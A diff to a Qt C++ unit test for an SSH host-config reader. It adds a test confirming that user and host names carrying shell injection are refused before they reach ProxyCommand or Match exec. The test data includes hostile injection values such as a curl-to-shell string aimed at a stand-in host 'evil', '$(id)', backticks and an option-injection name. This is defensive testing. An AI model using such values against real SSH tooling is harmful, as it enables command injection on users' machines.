@@ -23,6 +23,8 @@ private Q_SLOTS:
     void matchExec();
     void aWayIsTheFirstOne_data();
     void aWayIsTheFirstOne();
+    void namesInCommandsAreWords_data();
+    void namesInCommandsAreWords();
     void theProfileWins();
     void optionsWithoutEffectAreTold();
 
@@ -187,6 +189,56 @@ void SshHostConfigTest::aWayIsTheFirstOne()
     QTEST(plan.jump, "jump");
     QTEST(plan.proxyCommand, "command");
     QCOMPARE(plan.notes.size(), plan.proxyCommand.isEmpty() ? 0 : 1); // its use is told
+}
+
+void SshHostConfigTest::namesInCommandsAreWords_data()
+{
+    QTest::addColumn<QByteArray>("config");
+    QTest::addColumn<QString>("user");
+    QTest::addColumn<QString>("host");
+    QTest::addColumn<QString>("refused"); // the name
+    const QString bad = u"x;curl${IFS}evil|sh"_s;
+    QTest::newRow("a user that is a command, in a way") << "ProxyCommand ssh -W %h:%p %r@gate\n"_ba << bad << u"summit"_s << bad;
+    QTest::newRow("a user that is a command, asked about") << "Match exec \"test %r = o\"\nPort 1\n"_ba << bad << u"summit"_s << bad;
+    QTest::newRow("a user that is a command, where nothing is run") << "Port 1\n"_ba << bad << u"summit"_s << QString();
+    QTest::newRow("a user that is a command, in a command without him") << "ProxyCommand nc %h %p %%r\n"_ba << bad << u"summit"_s << QString();
+    QTest::newRow("a user that is a substitution") << "ProxyCommand nc %r\n"_ba << u"`id`"_s << u"summit"_s << u"`id`"_s;
+    QTest::newRow("a user that is an option") << "ProxyCommand nc %r\n"_ba << u"-oProxyCommand=x"_s << u"summit"_s << u"-oProxyCommand=x"_s;
+    QTest::newRow("a user with a backslash") << "ProxyCommand nc %r\n"_ba << u"SITE\\o"_s << u"summit"_s << u"SITE\\o"_s;
+    QTest::newRow("a host that is a command") << "ProxyCommand nc %h\n"_ba << u"o"_s << u"$(id)"_s << u"$(id)"_s;
+    QTest::newRow("a host that is a command, as it was named") << "HostName s.example\nProxyCommand nc %n\n"_ba << u"o"_s << u"$(id)"_s << u"$(id)"_s;
+    QTest::newRow("a host that is a command, asked about") << "Match exec \"test %n\"\nPort 1\n"_ba << u"o"_s << u"a&b"_s << u"a&b"_s;
+    QTest::newRow("names as they are") << "Match exec \"test %r = o\"\nProxyCommand ssh -W %h:%p %r@gate # %n\n"_ba << u"é.o-1_x"_s << u"fe80::1%eth0"_s
+                                       << QString();
+}
+
+void SshHostConfigTest::namesInCommandsAreWords()
+{
+    QFETCH(QByteArray, config);
+    QFETCH(QString, user);
+    QFETCH(QString, host);
+    QFETCH(QString, refused);
+    QStringList ran;
+    const SshHostConfig read = SshHostConfig::read(
+        {.host = host, .user = user, .localUser = u"local"_s},
+        {u"root"_s},
+        [&config](const QString &pattern) {
+            return pattern == u"root" ? QList<QPair<QString, QByteArray>>{{pattern, config}} : QList<QPair<QString, QByteArray>>();
+        },
+        [&ran](const QString &command) {
+            ran << command;
+            return std::optional(true);
+        });
+    LinkSpec spec;
+    spec.host = host;
+    spec.user = user;
+    const LinkPlan plan = LinkPlan::make(spec, read, u"/home/o"_s, u"local"_s);
+    QCOMPARE(plan.refusal.has_value(), !refused.isEmpty());
+    if (plan.refusal) {
+        QCOMPARE(plan.refusal->kind, FailureKind::Refused);
+        QVERIFY2(plan.refusal->what.contains(refused), qPrintable(plan.refusal->what));
+        QVERIFY(ran.isEmpty());
+    }
 }
 
 void SshHostConfigTest::theProfileWins()
